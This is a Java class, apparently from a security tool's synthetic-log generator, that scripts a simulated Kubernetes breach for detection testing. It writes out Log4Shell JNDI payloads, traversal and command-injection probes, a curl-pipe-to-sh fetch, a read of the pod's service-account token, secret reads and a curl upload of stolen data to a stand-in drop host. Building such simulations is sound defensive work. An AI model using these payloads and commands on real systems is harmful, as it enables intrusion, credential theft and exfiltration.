package io.tocsin.job.generate;

import static io.tocsin.job.generate.Simulation.SECOND;

import java.util.List;

/**
 * From the public site to the cluster's secrets: exploits tried on one service, a shell in its pod, the pod's token read, the
 * API explored and secrets read with it, and what was found carried out.
 */
final class IngressTakeover {
    private static final String ADDRESS = "192.0.2.131";
    private static final String DROP = "192.0.2.132";
    private static final String TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    private static final String LOOKUP = "${jndi:ldap://" + ADDRESS + ":1389/";

    private IngressTakeover() {}

    static void tell(Scene scene, long start) {
        Pod pod = scene.pod("web/search");
        long shell = shell(scene, pod, exploit(scene, pod, start));
        Caller caller = scene.asPod(pod, pod.address(), "curl/8.5.0");
        long at = shell + 40 * SECOND;
        scene.call(caller, Request.of("create", Api.RULES_REVIEWS, null, null), at);
        for (Api api : List.of(Api.PODS, Api.SERVICES, Api.CONFIG_MAPS)) {
            at += scene.chance.between(6 * SECOND, 12 * SECOND);
            scene.call(caller, Request.of("list", api, "web", null), at);
        }
        at += 8 * SECOND;
        scene.refuse(caller, Request.of("list", Api.SECRETS, null, null), at);
        for (String secret : new String[] {"search-api-key", "storefront-db", "images-s3", "recommendations-db"}) {
            at += scene.chance.between(5 * SECOND, 14 * SECOND);
            long read = at;
            scene.at(read - SECOND, now -> scene.logs.flows.toApi(pod, now));
            scene.call(caller, Request.of("get", Api.SECRETS, "web", secret), read);
        }
        long out = at + 20 * SECOND;
        scene.starts(pod, "/bin/sh", "/usr/bin/curl", "-s -T /tmp/o.tgz https://" + DROP + "/", out);
        scene.at(out + 30_000, now -> scene.logs.flows.toWorld(pod, DROP, null, 443, now));
        scene.tell(caller.username(), caller, start, out);
    }

    /** Some that fail, and one that the service takes for a search. */
    private static long exploit(Scene scene, Pod pod, long start) {
        String plain = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36";
        String[][] requests = {
            {"/search?q=..%2f..%2f..%2f..%2fetc%2fpasswd", "400", plain},
            {"/search?q=1;cat%20/etc/passwd", "400", plain},
            {"/search?q=$(id)", "400", plain},
            {"/search?sort=" + LOOKUP + "s}", "500", plain},
            {"/search?q=" + LOOKUP + "q}", "500", plain},
            {"/search?q=shoes", "200", LOOKUP + "a}"}
        };
        long at = start;
        for (String[] request : requests) {
            scene.at(
                    at,
                    now -> scene.logs.ingress.request(
                            ADDRESS, "GET", request[0], Integer.parseInt(request[1]), request[2], pod, now));
            at += scene.chance.between(4 * SECOND, 15 * SECOND);
        }
        return at;
    }

    private static long shell(Scene scene, Pod pod, long start) {
        String java = pod.workload.binary();
        scene.at(start, now -> scene.logs.flows.toWorld(pod, ADDRESS, null, 1_389, now));
        scene.starts(pod, java, "/bin/sh", "-c \"curl -s http://" + ADDRESS + "/a | sh\"", start + SECOND);
        long shell = start + 3 * SECOND;
        scene.starts(pod, java, "/bin/sh", "-i", shell);
        scene.at(
                shell + 200_000,
                now -> scene.logs.falco.alert(
                        pod, "Notice", "Terminal shell in container", "/bin/sh -i", "java", true, now));
        scene.starts(pod, "/bin/sh", "/usr/bin/id", "", shell + 9 * SECOND);
        scene.at(shell + 24 * SECOND, now -> {
            ProcessLog.Running cat = scene.logs.processes.exec(pod, "/bin/sh", "/bin/cat", TOKEN, false, now);
            scene.logs.processes.opens(cat, TOKEN.substring(4), now + 700);
            scene.logs.processes.exit(cat, 0, now + 2_000);
        });
        return shell + 24 * SECOND;
    }
}
